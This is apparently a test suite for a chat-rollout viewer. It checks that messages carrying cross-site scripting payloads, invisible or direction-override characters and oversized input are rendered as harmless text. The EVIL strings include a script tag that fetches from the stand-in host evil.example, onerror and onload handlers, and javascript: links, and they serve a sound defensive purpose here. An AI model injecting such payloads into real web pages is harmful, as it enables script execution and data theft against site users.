import { expect, inject, test } from "vitest";
import { openRollout } from "./rollout";

const EVIL = [
  "<script>window.hacked = 1; fetch('https://evil.example/script')</script>",
  '<img src="https://evil.example/i.png" onerror="window.hacked = 2">',
  '<style>@import "https://evil.example/s.css"; * { display: none }</style>',
  '<iframe src="javascript:parent.hacked = 3"></iframe><svg onload="window.hacked = 4"></svg>',
  "![picture](https://evil.example/markdown.png)",
  "[click me](javascript:window.hacked=5) [data](data:text/html,<script>1</script>) [fine](https://example.org/path)",
  "<https://example.org/auto> &lt;b&gt;entity&lt;/b&gt;",
].join("\n\n");

const TRICKS = "start \u202eesrever\u202c zero\u200bwidth \u0000\u0007\u001b[2J bell\u{e0041} rtl עברית end";

test("markup, links and images of a rollout do nothing and are shown as text", async () => {
  const { page } = await openRollout([
    { role: "user", content: EVIL },
    { role: "assistant", content: `<think>${EVIL}</think>${EVIL}`, tool_calls: [{ id: "<b>", function: { name: "<script>window.hacked = 6</script>", arguments: EVIL } }] },
    { role: "tool", tool_call_id: "<b>", content: EVIL },
    { role: '<img src=x onerror="window.hacked=7">', content: [{ type: "image_url", image_url: { url: "https://evil.example/part.png" } }, { type: "text", text: EVIL }], "<b>extra</b>": EVIL },
  ], "", { height: 4000 });
  const requests: string[] = [];
  page.on("request", (request) => requests.push(request.url()));
  await page.getByText("click me").first().waitFor();
  await page.reload();
  await page.getByText("image: https://evil.example/part.png, not loaded").waitFor();
  const chat = page.getByRole("region", { name: "Messages" });
  await expect.poll(() => chat.locator("a").count()).toBeGreaterThan(0);
  const text = await chat.innerText();
  for (const visible of ["<script>window.hacked = 1", "onerror=", "<style>@import", "<iframe", "image: picture, https://evil.example/markdown.png, not loaded", "javascript:window.hacked=5", "<b>entity</b>"]) {
    expect(text).toContain(visible);
  }
  for (const tag of ["script", "img", "style", "iframe", "svg", "object", "embed", "form"]) expect(await chat.locator(tag).count()).toBe(0);
  const links = await chat.locator("a").evaluateAll((all) => all.map((a) => [a.getAttribute("href"), a.getAttribute("rel"), a.getAttribute("target")]));
  for (const [href, rel, target] of links) {
    expect(href).toMatch(/^https:\/\/example\.org\//);
    expect([rel, target]).toEqual(["noreferrer noopener", "_blank"]);
  }
  // Where a link goes is to be read beside it.
  expect(text).toContain("fine (https://example.org/path)");
  await page.keyboard.press("r");
  await page.getByText("[click me](javascript:window.hacked=5)").first().waitFor();
  expect(await page.evaluate(() => (window as unknown as { hacked?: number }).hacked)).toBeUndefined();
  const own = new URL(inject("url")).origin;
  expect(requests.filter((url) => new URL(url).origin !== own)).toEqual([]);
});

test("characters that cannot be seen are, and no direction leaks out", async () => {
  const { page } = await openRollout([
    { role: "user", content: TRICKS },
    { role: "tool", content: TRICKS },
    { role: "assistant", content: "plain and in order" },
  ]);
  await page.getByText("plain and in order").waitFor();
  for (const mark of ["U+202E", "U+202C", "U+200B", "␀", "␇", "U+E0041"]) {
    expect(await page.getByText(mark, { exact: true }).count()).toBe(2);
  }
  expect(await page.locator('[title="right-to-left override (U+202E)"]').count()).toBe(2);
  const text = await page.getByRole("region", { name: "Messages" }).innerText();
  expect(text).not.toMatch(/[\u202a-\u202e\u200b\u0000\u0007\u001b]/);
  const block = page.locator("[data-part]", { hasText: "plain and in order" }).locator("[dir=auto]").first();
  expect(await block.evaluate((element) => getComputedStyle(element).unicodeBidi)).toBe("isolate");
});

test("half characters, a line of a megabyte and JSON of a thousand levels are shown", async () => {
  const deep = "[".repeat(1000) + "]".repeat(1000);
  const row = `{"messages": [{"role": "user", "content": "half \\ud83d here"}, {"role": "tool", "content": "${deep}"}, {"role": "assistant", "content": "${"*[a](".repeat(200_000)}tail"}, {"role": "user", "content": "${"* ".repeat(9000)}"}, {"role": "user", "content": "after"}], "attributes": {"step": 1}}`;
  const { page } = await openRollout(row, "&m=4");
  await page.getByText("after", { exact: true }).waitFor();
  await page.keyboard.press("f");
  const input = page.getByRole("searchbox", { name: "Text to find in the chat" });
  await input.fill("tail");
  await input.press("Enter");
  await page.locator("mark[data-kind=now]").waitFor();
  await input.fill("half");
  await input.press("Enter");
  await page.locator("mark[data-kind=now]", { hasText: "half" }).waitFor();
});
